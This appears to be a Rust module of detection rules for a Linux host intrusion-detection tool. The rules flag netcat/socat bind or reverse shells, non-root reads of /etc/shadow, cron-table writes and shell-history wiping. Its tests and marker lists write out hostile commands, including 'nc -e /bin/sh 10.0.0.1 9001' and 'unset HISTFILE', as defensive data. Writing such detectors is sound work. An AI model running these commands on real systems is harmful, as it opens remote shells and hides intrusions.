//! Built-in per-event-kind rules.
//!
//! Each analyzer looks its technique up in the catalog once at construction.
//! A technique missing from the catalog simply disables the rule.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use super::{AnalysisConfig, AnalysisError, AnalysisState, Analyzer, Artifact, Detection, Level};
use crate::events::Event;
use crate::techs::{Catalog, Technique, bind_shell, cron, history, shadow};

/// Last path component of `argv[0]`, falling back to `comm`.
fn program<'a>(comm: &'a str, argv: &'a [String]) -> &'a str {
    argv.first()
        .and_then(|a| Path::new(a).file_name())
        .and_then(|n| n.to_str())
        .unwrap_or(comm)
}

fn is_tool(tools: &[String], name: &str) -> bool {
    tools.iter().any(|t| t == name)
}

/// Run `det` through the dedup memory under `key`.
fn remember(state: &mut AnalysisState, det: Detection, key: &str, ev: &Event) -> Detection {
    state.dedup.observe(det, key, ev.time())
}

// ───── exec ────────────────────────────────────────────────────────────────

pub struct ExecAnalyzer {
    bind_shell: Option<Arc<dyn Technique>>,
    tools: Vec<String>,
}

impl ExecAnalyzer {
    pub fn new(catalog: &Catalog, cfg: &AnalysisConfig) -> Self {
        Self { bind_shell: catalog.get(bind_shell::NAME), tools: cfg.bind_tools.clone() }
    }
}

impl Analyzer for ExecAnalyzer {
    fn analyze(&mut self, ev: &Arc<Event>, state: &mut AnalysisState) -> Result<Vec<Detection>, AnalysisError> {
        let Event::Exec(exec) = ev.as_ref() else {
            return Ok(vec![]);
        };
        if exec.comm.is_empty() && exec.argv.is_empty() {
            return Err(AnalysisError::malformed(ev, "exec without comm or argv"));
        }
        if exec.meta.ret_val < 0 {
            return Ok(vec![]);
        }
        state.procs.record(ev);

        let Some(tech) = &self.bind_shell else {
            return Ok(vec![]);
        };
        let prog = program(&exec.comm, &exec.argv);
        let spawns_shell = exec.argv.iter().skip(1).any(|a| a == "-e" || a == "-c" || a.starts_with("exec:"));
        if !is_tool(&self.tools, prog) || !spawns_shell {
            return Ok(vec![]);
        }

        let det = Detection::new(
            Arc::clone(tech),
            Level::High,
            format!("{prog} started with a command-execution flag"),
            vec![Artifact::of(ev)],
        );
        Ok(vec![remember(state, det, &exec.argv.join(" "), ev)])
    }
}

// ───── listen ──────────────────────────────────────────────────────────────

pub struct ListenAnalyzer {
    bind_shell: Option<Arc<dyn Technique>>,
    tools: Vec<String>,
}

impl ListenAnalyzer {
    pub fn new(catalog: &Catalog, cfg: &AnalysisConfig) -> Self {
        Self { bind_shell: catalog.get(bind_shell::NAME), tools: cfg.bind_tools.clone() }
    }
}

impl Analyzer for ListenAnalyzer {
    fn analyze(&mut self, ev: &Arc<Event>, state: &mut AnalysisState) -> Result<Vec<Detection>, AnalysisError> {
        let Event::Listen(listen) = ev.as_ref() else {
            return Ok(vec![]);
        };
        if listen.comm.is_empty() {
            return Err(AnalysisError::malformed(ev, "listen without comm"));
        }
        let Some(tech) = &self.bind_shell else {
            return Ok(vec![]);
        };
        if listen.meta.ret_val < 0 {
            return Ok(vec![]);
        }

        let exec = state.procs.lookup(listen.meta.pid, listen.meta.time).cloned();
        let exec_prog = exec.as_deref().and_then(|e| match e {
            Event::Exec(x) => Some(program(&x.comm, &x.argv).to_owned()),
            _ => None,
        });

        let det = match (exec, exec_prog) {
            (Some(exec), Some(prog)) if is_tool(&self.tools, &prog) => Detection::new(
                Arc::clone(tech),
                Level::Critical,
                format!("{prog} opened a listening socket on port {}", listen.port),
                vec![Artifact::of(&exec), Artifact::of(ev)],
            ),
            _ if is_tool(&self.tools, &listen.comm) => Detection::new(
                Arc::clone(tech),
                Level::High,
                format!("{} opened a listening socket on port {}", listen.comm, listen.port),
                vec![Artifact::of(ev)],
            ),
            _ => return Ok(vec![]),
        };
        let key = format!("{}:{}", listen.comm, listen.port);
        Ok(vec![remember(state, det, &key, ev)])
    }
}

// ───── open ────────────────────────────────────────────────────────────────

pub struct OpenAnalyzer {
    shadow_read: Option<Arc<dyn Technique>>,
    cron_persistence: Option<Arc<dyn Technique>>,
    shadow_path: PathBuf,
    cron_dirs: Vec<PathBuf>,
}

impl OpenAnalyzer {
    pub fn new(catalog: &Catalog, cfg: &AnalysisConfig) -> Self {
        Self {
            shadow_read: catalog.get(shadow::NAME),
            cron_persistence: catalog.get(cron::NAME),
            shadow_path: cfg.shadow_path.clone(),
            cron_dirs: cfg.cron_dirs.clone(),
        }
    }
}

impl Analyzer for OpenAnalyzer {
    fn analyze(&mut self, ev: &Arc<Event>, state: &mut AnalysisState) -> Result<Vec<Detection>, AnalysisError> {
        let Event::Open(open) = ev.as_ref() else {
            return Ok(vec![]);
        };
        if open.path.is_empty() {
            return Err(AnalysisError::malformed(ev, "open without path"));
        }
        if open.meta.ret_val < 0 {
            return Ok(vec![]);
        }

        let path = Path::new(&open.path);
        let mut out = Vec::new();

        if let Some(tech) = &self.shadow_read {
            if path == self.shadow_path && open.meta.uid != 0 {
                let det = Detection::new(
                    Arc::clone(tech),
                    Level::High,
                    format!("uid {} read the password hash database", open.meta.uid),
                    vec![Artifact::of(ev)],
                );
                let key = format!("{}:{}", open.meta.uid, open.comm);
                out.push(remember(state, det, &key, ev));
            }
        }

        if let Some(tech) = &self.cron_persistence {
            if open.is_write() && self.cron_dirs.iter().any(|d| path.starts_with(d) && path != d) {
                let det = Detection::new(
                    Arc::clone(tech),
                    Level::Medium,
                    format!("{} modified a cron table", open.comm),
                    vec![Artifact::of(ev)],
                );
                out.push(remember(state, det, &open.path, ev));
            }
        }

        Ok(out)
    }
}

// ───── readline ────────────────────────────────────────────────────────────

const HISTORY_MARKERS: &[&str] = &[
    "unset HISTFILE",
    "history -c",
    "HISTSIZE=0",
    "HISTFILESIZE=0",
    "HISTFILE=/dev/null",
    "set +o history",
];

pub struct ReadlineAnalyzer {
    history_evasion: Option<Arc<dyn Technique>>,
}

impl ReadlineAnalyzer {
    pub fn new(catalog: &Catalog) -> Self {
        Self { history_evasion: catalog.get(history::NAME) }
    }
}

impl Analyzer for ReadlineAnalyzer {
    fn analyze(&mut self, ev: &Arc<Event>, state: &mut AnalysisState) -> Result<Vec<Detection>, AnalysisError> {
        let Event::Readline(rl) = ev.as_ref() else {
            return Ok(vec![]);
        };
        if rl.comm.is_empty() {
            return Err(AnalysisError::malformed(ev, "readline without comm"));
        }
        let Some(tech) = &self.history_evasion else {
            return Ok(vec![]);
        };

        let line = rl.line.trim();
        let links_history = line.starts_with("ln ") && line.contains("/dev/null") && line.contains("history");
        if !links_history && !HISTORY_MARKERS.iter().any(|m| line.contains(m)) {
            return Ok(vec![]);
        }

        let det = Detection::new(
            Arc::clone(tech),
            Level::Low,
            "shell history is being disabled or wiped",
            vec![Artifact::of(ev)],
        );
        let key = format!("{}:{}", rl.meta.uid, line);
        Ok(vec![remember(state, det, &key, ev)])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::Analyzers;
    use crate::config::CatalogConfig;
    use crate::events::{EventMeta, ExecEvent, ListenEvent, OpenEvent, ReadlineEvent};
    use chrono::{TimeDelta, Utc};
    use std::net::{IpAddr, Ipv4Addr};
    use std::time::Duration;

    fn setup() -> Analyzers {
        let catalog = Catalog::builtin(&CatalogConfig::default());
        let cfg = AnalysisConfig {
            dedup_window: Duration::from_secs(60),
            dedup_capacity: 64,
            shadow_path: "/etc/shadow".into(),
            cron_dirs: vec!["/etc/cron.d".into()],
            bind_tools: vec!["nc".into(), "socat".into()],
        };
        Analyzers::builtin(&catalog, &cfg)
    }

    fn meta(pid: u32, uid: u32) -> EventMeta {
        EventMeta { time: Utc::now(), pid, uid, ret_val: 0 }
    }

    fn open(uid: u32, path: &str, flags: i32) -> Arc<Event> {
        Arc::new(Event::Open(OpenEvent { meta: meta(100, uid), comm: "cat".into(), path: path.into(), flags }))
    }

    #[test]
    fn shadow_read_by_user_is_high_then_dupe() {
        let mut a = setup();
        let first = a.analyze(&open(1000, "/etc/shadow", 0)).unwrap();
        assert_eq!(first.len(), 1);
        assert_eq!(first[0].level, Level::High);
        assert_eq!(first[0].tech.name(), shadow::NAME);
        assert_eq!(first[0].artifacts.len(), 1);
        assert!(!first[0].is_dupe());

        let second = a.analyze(&open(1000, "/etc/shadow", 0)).unwrap();
        assert_eq!(second.len(), 1);
        assert!(second[0].is_dupe());
    }

    #[test]
    fn shadow_read_by_root_or_failed_open_is_ignored() {
        let mut a = setup();
        assert!(a.analyze(&open(0, "/etc/shadow", 0)).unwrap().is_empty());
        let mut failed = open(1000, "/etc/shadow", 0);
        if let Some(Event::Open(o)) = Arc::get_mut(&mut failed) {
            o.meta.ret_val = -13;
        }
        assert!(a.analyze(&failed).unwrap().is_empty());
    }

    #[test]
    fn cron_write_matches_but_read_does_not() {
        let mut a = setup();
        assert!(a.analyze(&open(0, "/etc/cron.d/backdoor", 0)).unwrap().is_empty());
        let dets = a.analyze(&open(0, "/etc/cron.d/backdoor", 0o1 | 0o100)).unwrap();
        assert_eq!(dets.len(), 1);
        assert_eq!(dets[0].tech.name(), cron::NAME);
    }

    #[test]
    fn empty_path_is_analysis_error() {
        let mut a = setup();
        assert!(matches!(a.analyze(&open(0, "", 0)), Err(AnalysisError::MalformedEvent { .. })));
    }

    #[test]
    fn listen_after_tool_exec_builds_two_artifact_trail() {
        let mut a = setup();
        let t0 = Utc::now();
        let exec = Arc::new(Event::Exec(ExecEvent {
            meta: EventMeta { time: t0, pid: 55, uid: 1000, ret_val: 0 },
            ppid: 1,
            comm: "nc".into(),
            argv: vec!["/usr/bin/nc".into(), "-lvp".into(), "4444".into()],
        }));
        assert!(a.analyze(&exec).unwrap().is_empty());

        let listen = Arc::new(Event::Listen(ListenEvent {
            meta: EventMeta { time: t0 + TimeDelta::seconds(1), pid: 55, uid: 1000, ret_val: 0 },
            comm: "nc".into(),
            addr: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
            port: 4444,
        }));
        let dets = a.analyze(&listen).unwrap();
        assert_eq!(dets.len(), 1);
        assert_eq!(dets[0].level, Level::Critical);
        let kinds: Vec<_> = dets[0].artifacts.iter().map(|a| a.event.type_header()).collect();
        assert_eq!(kinds, ["exec", "listen"]);
        assert_eq!(dets[0].latest_artifact().unwrap().event.type_header(), "listen");
    }

    #[test]
    fn tool_exec_with_shell_flag_matches() {
        let mut a = setup();
        let exec = Arc::new(Event::Exec(ExecEvent {
            meta: meta(9, 0),
            ppid: 1,
            comm: "nc".into(),
            argv: vec!["nc".into(), "-e".into(), "/bin/sh".into(), "10.0.0.1".into(), "9001".into()],
        }));
        let dets = a.analyze(&exec).unwrap();
        assert_eq!(dets.len(), 1);
        assert_eq!(dets[0].tech.name(), bind_shell::NAME);
    }

    #[test]
    fn history_wipe_matches() {
        let mut a = setup();
        let rl = Arc::new(Event::Readline(ReadlineEvent {
            meta: meta(3, 1000),
            comm: "bash".into(),
            line: "  unset HISTFILE ".into(),
        }));
        let dets = a.analyze(&rl).unwrap();
        assert_eq!(dets.len(), 1);
        assert_eq!(dets[0].level, Level::Low);

        let benign = Arc::new(Event::Readline(ReadlineEvent {
            meta: meta(3, 1000),
            comm: "bash".into(),
            line: "history | tail".into(),
        }));
        assert!(a.analyze(&benign).unwrap().is_empty());
    }
}
